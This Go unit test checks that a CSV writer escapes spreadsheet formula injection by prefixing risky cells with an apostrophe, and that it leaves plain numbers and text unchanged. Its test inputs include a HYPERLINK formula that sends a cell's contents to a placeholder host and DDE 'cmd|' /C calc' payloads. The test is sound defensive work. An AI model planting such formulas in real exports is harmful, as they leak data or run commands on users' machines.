package render

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestCSVFormulas: text that a spreadsheet would run as a formula is
// written with a ' before it; numbers, negative ones too, and ordinary
// text are written as they are; and the CSV reads back.
func TestCSVFormulas(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("http://x.invalid/?"&A1,"Click")`: `'=HYPERLINK("http://x.invalid/?"&A1,"Click")`,
		"+44 20 7946 0000":                            "'+44 20 7946 0000",
		"-cmd|' /C calc'!A0":                          "'-cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!":                   "'@SUM(1+1)*cmd|' /C calc'!",
		"\t=1+1":                                      "'\t=1+1",
		"\r=1+1":                                      `\r=1+1`, // made visible, so no longer a formula
		"-5":                                          "-5",
		"+3.5":                                        "+3.5",
		"1e3":                                         "1e3",
		"2026-11-24":                                  "2026-11-24",
		"Recruit 20 social workers":                   "Recruit 20 social workers",
		"":                                            "",
		"a\x1b[2Jb":                                   `a\x1b[2Jb`,
	}
	for in, want := range cells {
		var b bytes.Buffer
		cw := newCSV(&b)
		if err := cw.WriteAll([][]string{{in, "x"}}); err != nil {
			t.Fatal(err)
		}
		rec, err := csv.NewReader(&b).Read()
		if err != nil {
			t.Fatalf("%q: the CSV does not read back: %v", in, err)
		}
		if rec[0] != want {
			t.Errorf("cell %q written as %q, want %q", in, rec[0], want)
		}
	}
}
